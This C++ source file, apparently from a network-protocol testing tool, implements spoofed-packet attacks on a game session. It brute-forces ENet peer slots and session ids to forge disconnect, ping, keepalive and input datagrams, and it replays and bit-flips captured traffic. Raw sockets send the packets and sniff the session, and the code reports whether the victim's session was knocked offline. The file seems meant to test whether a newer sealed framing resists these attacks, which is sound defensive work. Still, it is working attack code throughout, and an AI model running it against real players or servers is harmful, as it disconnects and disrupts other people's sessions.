#include "session_attack.h"

#include <algorithm>
#include <array>
#include <chrono>
#include <sstream>
#include <thread>

#include "raw_ip.h"

namespace tickwire::spoof {
namespace {

using Clock = std::chrono::steady_clock;

constexpr std::array<const char*, kSessionAttackCount> kNames{
    "spoof-disconnect", "spoof-keepalive", "forge-input", "spoof-ping", "junk", "replay"};

// The old framing: ENet's 16-bit peer header (12-bit slot, 2-bit session).
constexpr std::uint64_t kSlots = 4096;
constexpr std::uint64_t kSessions = 4;
constexpr std::uint64_t kLegacyGuesses = kSlots * kSessions;
constexpr std::uint64_t kPingSlots = 8;  // who knows the join order needs only the first slots
constexpr std::uint16_t kSentTimeFlag = 0x8000;
constexpr std::uint16_t kSessionDatagramFlag = 0x4000;
constexpr std::uint32_t kKickedCode = 9;
constexpr std::size_t kSealedHeader = 6;
constexpr std::size_t kTag = 16;
constexpr std::size_t kMaxJunk = 1300;

using Bytes = std::vector<std::uint8_t>;

void put_u16(Bytes& out, std::uint16_t v) {
  out.push_back(static_cast<std::uint8_t>(v >> 8));
  out.push_back(static_cast<std::uint8_t>(v));
}

std::uint16_t peer_header(std::uint64_t slot, std::uint64_t session) {
  return static_cast<std::uint16_t>((slot & 0x0FFF) | ((session & 3) << 12));
}

Bytes enet(std::uint64_t slot, std::uint64_t session, const Bytes& command) {
  Bytes out;
  out.reserve(4 + command.size());
  put_u16(out, static_cast<std::uint16_t>(peer_header(slot, session) | kSentTimeFlag));
  put_u16(out, 0x1234);  // ENet's sent time: anything
  for (const std::uint8_t b : command) out.push_back(b);
  return out;
}

Bytes session_datagram(std::uint64_t slot, std::uint64_t session, const Bytes& payload) {
  Bytes out;
  out.reserve(2 + payload.size());
  put_u16(out, static_cast<std::uint16_t>(peer_header(slot, session) | kSessionDatagramFlag));
  for (const std::uint8_t b : payload) out.push_back(b);
  return out;
}

Bytes disconnect_command() {
  Bytes out{0x44, 0xFF, 0, 0};  // DISCONNECT, unsequenced: acted on at once
  put_u16(out, static_cast<std::uint16_t>(kKickedCode >> 16));
  put_u16(out, static_cast<std::uint16_t>(kKickedCode));
  return out;
}

Bytes ping_command(std::uint16_t sequence) {
  Bytes out{0x85, 0xFF};  // PING, to be acknowledged
  put_u16(out, sequence);
  return out;
}

Bytes unsequenced_command(std::uint16_t group, const Bytes& data) {
  Bytes out{0x49, 1, 0, 0};  // SEND_UNSEQUENCED on the unreliable channel
  put_u16(out, group);
  put_u16(out, static_cast<std::uint16_t>(data.size()));
  for (const std::uint8_t b : data) out.push_back(b);
  return out;
}

Bytes payload(std::size_t size, std::uint8_t salt) {
  Bytes out(size);
  for (std::size_t i = 0; i < size; ++i) out[i] = static_cast<std::uint8_t>(salt + 37 * i);
  return out;
}

Bytes random_bytes(std::mt19937_64& rng, std::size_t size) {
  Bytes out(size);
  for (auto& b : out) b = static_cast<std::uint8_t>(rng());
  return out;
}

// The old framing's datagram for one slot and session guess.
Bytes legacy(SessionAttack attack, std::uint64_t slot, std::uint64_t session, std::mt19937_64& rng) {
  switch (attack) {
    case SessionAttack::kSpoofDisconnect: return enet(slot, session, disconnect_command());
    case SessionAttack::kSpoofKeepAlive: return session_datagram(slot, session, payload(5, 1));
    case SessionAttack::kForgeInput:
      return (slot + session) % 2 == 0
                 ? session_datagram(slot, session, payload(30, 2))
                 : enet(slot, session, unsequenced_command(static_cast<std::uint16_t>(slot), payload(30, 2)));
    case SessionAttack::kSpoofPing:
      return enet(slot % kPingSlots, session, ping_command(static_cast<std::uint16_t>(slot)));
    case SessionAttack::kJunk:
    case SessionAttack::kReplay: break;
  }
  return session_datagram(slot, session, random_bytes(rng, 1 + rng() % kMaxJunk));
}

// A sealed guess: random connection id and early packet number, the body
// as a plaintext session would carry it, a tag the attacker cannot compute.
Bytes sealed_guess(SessionAttack attack, std::mt19937_64& rng) {
  bool enet_inside = attack == SessionAttack::kSpoofDisconnect || attack == SessionAttack::kSpoofPing;
  Bytes body;
  switch (attack) {
    case SessionAttack::kSpoofDisconnect: body = enet(0, 0, disconnect_command()); break;
    case SessionAttack::kSpoofPing: body = enet(0, 0, ping_command(1)); break;
    case SessionAttack::kSpoofKeepAlive: body = payload(5, 1); break;
    case SessionAttack::kForgeInput: body = payload(30, 2); break;
    case SessionAttack::kJunk:
    case SessionAttack::kReplay:
      body = random_bytes(rng, rng() % kMaxJunk);
      enet_inside = rng() % 2 == 0;
      break;
  }
  const std::uint64_t number = rng() % 8192;
  const auto id = static_cast<std::uint32_t>(rng());
  Bytes out;
  out.reserve(kSealedHeader + body.size() + kTag);
  out.push_back(static_cast<std::uint8_t>(0x40 | (enet_inside ? 0 : 0x20) | ((number >> 8) & 0x1F)));
  for (int shift = 0; shift < 32; shift += 8) out.push_back(static_cast<std::uint8_t>(id >> shift));
  out.push_back(static_cast<std::uint8_t>(number));
  const Bytes tag = random_bytes(rng, kTag);
  out.insert(out.end(), body.begin(), body.end());
  out.insert(out.end(), tag.begin(), tag.end());
  return out;
}

bool looks_sealed(const Bytes& d) { return d.size() >= kSealedHeader + kTag && (d[0] & 0xC0) == 0x40; }

struct Watch {
  Counter to_victim;
  Counter from_victim;
  Bytes largest;  // the largest datagram in the attacked direction
};

// Reads what crossed between victim and server for `seconds`.
Watch watch(RawSniffer& sniffer, const SessionAttackConfig& c, double seconds) {
  Watch w;
  const auto end = Clock::now() + std::chrono::duration_cast<Clock::duration>(std::chrono::duration<double>(seconds));
  while (Clock::now() < end) {
    for (SeenDatagram& d : sniffer.drain()) {
      const bool to_victim = d.from == c.server && d.to.port == c.victim.port;
      const bool from_victim = d.from == c.victim && d.to == c.server;
      if (to_victim) w.to_victim.add(d.payload.size());
      if (from_victim) w.from_victim.add(d.payload.size());
      if ((c.toward_client ? to_victim : from_victim) && d.payload.size() > w.largest.size()) w.largest = d.payload;
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(5));
  }
  return w;
}

void judge(const SessionAttackConfig& c, SessionAttackResult& r) {
  std::ostringstream why;
  if (r.after_to_victim.packets == 0 || r.after_from_victim.packets == 0) {
    why << "the session went silent after the attack (server to victim " << r.after_to_victim.packets
        << " datagrams, victim to server " << r.after_from_victim.packets << ")";
  }
  // Answers to the victim beyond the server's own traffic: only countable
  // when our spoofed datagrams do not travel toward the victim themselves.
  if (!c.toward_client && c.watch_s > 0.0) {
    const double own = static_cast<double>(r.before_to_victim.bytes) / c.watch_s * r.attack_seconds;
    if (static_cast<double>(r.during_to_victim.bytes) > 2.0 * own + 2048.0) {
      if (why.tellp() > 0) why << "; ";
      why << "the server sent the victim " << r.during_to_victim.bytes << " bytes during the attack (about "
          << static_cast<std::uint64_t>(own) << " expected from its own traffic)";
    }
  }
  r.harm_detail = why.str();
  r.harm = !r.harm_detail.empty();
}

}  // namespace

const char* to_string(SessionAttack attack) { return kNames[static_cast<std::size_t>(attack)]; }

std::optional<SessionAttack> session_attack_from_string(std::string_view name) {
  for (std::size_t i = 0; i < kNames.size(); ++i) {
    if (name == kNames[i]) return static_cast<SessionAttack>(i);
  }
  return std::nullopt;
}

std::string session_attack_names() {
  std::string out;
  for (const char* name : kNames) out += (out.empty() ? "" : ", ") + std::string(name);
  return out;
}

std::vector<std::uint8_t> forged_session_datagram(SessionAttack attack, std::uint64_t n, std::mt19937_64& rng) {
  if (n < kLegacyGuesses) return legacy(attack, n / kSessions, n % kSessions, rng);
  return sealed_guess(attack, rng);
}

std::vector<std::uint8_t> rewritten(std::vector<std::uint8_t> d, std::uint64_t step) {
  const bool sealed = looks_sealed(d);
  if (sealed) {
    const std::uint64_t number = ((std::uint64_t{d[0] & 0x1Fu} << 8) | d[5]) + step;
    d[0] = static_cast<std::uint8_t>((d[0] & 0xE0) | ((number >> 8) & 0x1F));
    d[5] = static_cast<std::uint8_t>(number);
  }
  // The payload's last bytes (before the tag), flipped as a known-plaintext
  // attacker flips a stream cipher's bits.
  const std::size_t end = sealed ? d.size() - kTag : d.size();
  const std::size_t start = sealed ? kSealedHeader : std::min<std::size_t>(d.size(), 2);
  for (std::size_t i = end; i > start && end - i < 4; --i) d[i - 1] ^= static_cast<std::uint8_t>(0x5A + step);
  return d;
}

Result<SessionAttackResult> run_session_attack(const SessionAttackConfig& c) {
  auto sender = RawSender::open();
  if (!sender) return sender.error();
  auto sniffer = RawSniffer::open();
  if (!sniffer) return sniffer.error();
  SessionAttackResult r;
  const Watch before = watch(*sniffer, c, c.watch_s);
  r.before_to_victim = before.to_victim;
  r.before_from_victim = before.from_victim;
  if (before.to_victim.packets == 0 || before.from_victim.packets == 0) {
    return Error{ErrorCode::kIo, "no session seen between " + c.victim.to_string() + " and " + c.server.to_string() +
                                     " (both ways) in " + std::to_string(c.watch_s) + " s: nothing to attack"};
  }
  if (c.attack == SessionAttack::kReplay && before.largest.empty()) {
    return Error{ErrorCode::kIo, "no datagram of the session captured to replay"};
  }
  r.captured_size = before.largest.size();

  const Ipv4Endpoint from = c.toward_client ? c.server : c.victim;
  const Ipv4Endpoint to = c.toward_client ? c.victim : c.server;
  std::mt19937_64 rng(c.seed);
  const auto start = Clock::now();
  while (r.sent < c.budget && (c.stop == nullptr || c.stop->load() == 0)) {
    const double elapsed = std::chrono::duration<double>(Clock::now() - start).count();
    const auto due = std::min<std::uint64_t>(c.budget, static_cast<std::uint64_t>(elapsed * c.rate) + 1);
    for (; r.sent < due; ++r.sent) {
      const Bytes datagram = c.attack == SessionAttack::kReplay
                                 ? (r.sent % 4 == 0 ? before.largest : rewritten(before.largest, r.sent))
                                 : forged_session_datagram(c.attack, r.sent, rng);
      if (!sender->send(from, to, datagram)) ++r.refused;
    }
    for (const SeenDatagram& d : sniffer->drain()) {
      if (d.from == c.server && d.to.port == c.victim.port) r.during_to_victim.add(d.payload.size());
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(1));
  }
  r.attack_seconds = std::chrono::duration<double>(Clock::now() - start).count();
  // What the server sent after the last spoofed datagram counts as during.
  const Watch settle = watch(*sniffer, c, 0.1);
  if (!c.toward_client) r.during_to_victim.packets += settle.to_victim.packets;
  if (!c.toward_client) r.during_to_victim.bytes += settle.to_victim.bytes;
  const Watch after = watch(*sniffer, c, c.watch_s);
  r.after_to_victim = after.to_victim;
  r.after_from_victim = after.from_victim;
  judge(c, r);
  return r;
}

std::string session_attack_text(const SessionAttackConfig& c, const SessionAttackResult& r) {
  std::ostringstream out;
  out << "session attack " << to_string(c.attack) << (c.toward_client ? " toward the client " : " toward the server ")
      << "(victim " << c.victim.to_string() << ", server " << c.server.to_string() << ")\n";
  out << "  sent             " << r.sent << " datagrams in " << r.attack_seconds << " s (" << r.refused
      << " refused locally)\n";
  if (c.attack == SessionAttack::kReplay) out << "  captured         " << r.captured_size << " bytes\n";
  out << "  before           server->victim " << r.before_to_victim.packets << ", victim->server "
      << r.before_from_victim.packets << " datagrams\n";
  out << "  after            server->victim " << r.after_to_victim.packets << ", victim->server "
      << r.after_from_victim.packets << " datagrams\n";
  out << "  harm             " << (r.harm ? "yes: " + r.harm_detail : std::string("none seen")) << "\n";
  return out.str();
}

std::string session_attack_json(const SessionAttackConfig& c, const SessionAttackResult& r) {
  std::ostringstream out;
  out << "{\"attack\":\"" << to_string(c.attack) << "\",\"toward_client\":" << (c.toward_client ? "true" : "false")
      << ",\"victim\":\"" << c.victim.to_string() << "\",\"server\":\"" << c.server.to_string()
      << "\",\"sent\":" << r.sent << ",\"refused\":" << r.refused << ",\"seconds\":" << r.attack_seconds
      << ",\"after_to_victim\":" << r.after_to_victim.packets
      << ",\"after_from_victim\":" << r.after_from_victim.packets
      << ",\"bytes_to_victim_during\":" << r.during_to_victim.bytes << ",\"harm\":" << (r.harm ? "true" : "false")
      << "}\n";
  return out.str();
}

}  // namespace tickwire::spoof
